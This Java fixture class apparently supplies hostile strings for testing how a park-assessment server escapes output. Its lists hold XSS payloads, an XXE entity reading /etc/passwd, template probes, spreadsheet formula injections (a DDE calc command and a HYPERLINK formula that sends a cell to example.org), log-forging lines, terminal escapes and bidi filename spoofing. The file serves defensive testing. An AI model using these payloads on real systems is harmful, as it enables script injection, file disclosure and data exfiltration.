package org.parkwright.server.output;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import org.parkwright.catalog.Catalog;
import org.parkwright.domain.assess.Recipe;
import org.parkwright.domain.assess.Scorecard;
import org.parkwright.domain.evidence.Claim;
import org.parkwright.domain.evidence.Evidence;
import org.parkwright.domain.evidence.Kind;
import org.parkwright.domain.evidence.Observation;
import org.parkwright.domain.evidence.Scenario;
import org.parkwright.domain.evidence.Source;
import org.parkwright.domain.evidence.Variable;
import org.parkwright.domain.park.Park;
import org.parkwright.domain.park.ParkId;
import org.parkwright.kernel.period.Period;
import org.parkwright.render.text.Texts;

/// Texts that break careless writers, and a scorecard that holds each of them as name of the park,
/// source, method, note and reason.
public final class Hostile {
  /// The words of what is written.
  public static final Texts ENGLISH = Texts.in(Locale.ENGLISH);

  /// Markup, addresses and styles.
  public static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "]]><script>alert(2)</script>",
          "\" onmouseover=\"alert(3)",
          "' onfocus='alert(4)' autofocus='",
          "<img src=x onerror=alert(5)>",
          "javascript:alert(6)",
          "</style><style>@import 'http://example.org/a.css';</style>",
          "--><iframe src='file:///etc/passwd'></iframe>",
          "&lt;b&gt; &amp;amp; &#0; &#x41;",
          "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
          "${7*7} #{7*7} {{7*7}} {0} %s %n");

  /// What spreadsheet programs run.
  public static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"http://example.org/?\"&A1,\"here\")",
          "+1+cmd|' /C calc'!A0",
          "-1+1",
          "@SUM(A1:A9)",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "  =1+1",
          "＝1+1",
          "'=1+1",
          "a,\"b\";=1+1\n=2+2");

  /// Characters that steer readers of logs, terminals and pages.
  public static final List<String> SIGNS =
      List.of(
          "one\r\n12:00:00 ERROR o.p.Forged: two",
          "a\u001B[2J\u001B[31mred\u009B2Jb",
          "a\u0000b\u0007c\u0008d\u007Fe",
          "user\u202Egnp.exe\u2066x\u2069",
          "half \uD83C and \uDF31 half",
          "next\u0085line\u2028line\u2029para",
          "\uFFFE\uFFFF\uFEFFend",
          "long ".repeat(400) + "end");

  public static final ParkId PARK = ParkId.of("xx/hostile");
  public static final Period YEAR = Period.year(2024);
  public static final Catalog CATALOG = Catalog.bundled();

  private Hostile() {}

  /// All of them.
  public static List<String> all() {
    List<String> all = new ArrayList<>(MARKUP);
    all.addAll(FORMULAS);
    all.addAll(SIGNS);
    return List.copyOf(all);
  }

  /// A park with one of the texts as its name.
  public static Park park(String name) {
    return Park.named(PARK, name);
  }

  /// One observation for each text, which stands wherever a person can write.
  public static List<Observation> observations(List<String> texts) {
    List<Variable> asked =
        CATALOG.dictionary().variables().stream()
            .filter(v -> v.kind() instanceof Kind.YesNo && !v.code().startsWith("tenant."))
            .toList();
    List<Observation> observations = new ArrayList<>();
    for (int i = 0; i < texts.size(); i++) {
      String text = texts.get(i);
      boolean unanswered = i % 5 == 4;
      observations.add(
          new Observation(
              PARK,
              asked.get(i % asked.size()).code(),
              YEAR,
              Scenario.CURRENT,
              unanswered ? new Claim.NotApplicable(text) : new Claim.Value(1, 1, 1, "yes", ""),
              Optional.empty(),
              new Source(text, text, text, false),
              text,
              text,
              text,
              Instant.parse("2025-03-01T10:00:00Z").plusSeconds(i)));
    }
    return observations;
  }

  /// A scorecard of all systems over all texts.
  public static Scorecard scorecard(List<String> texts) {
    return Scorecard.of(
        CATALOG.systems(),
        CATALOG.dictionary(),
        Evidence.of(PARK, YEAR, observations(texts)),
        new Recipe(1, 50));
  }
}
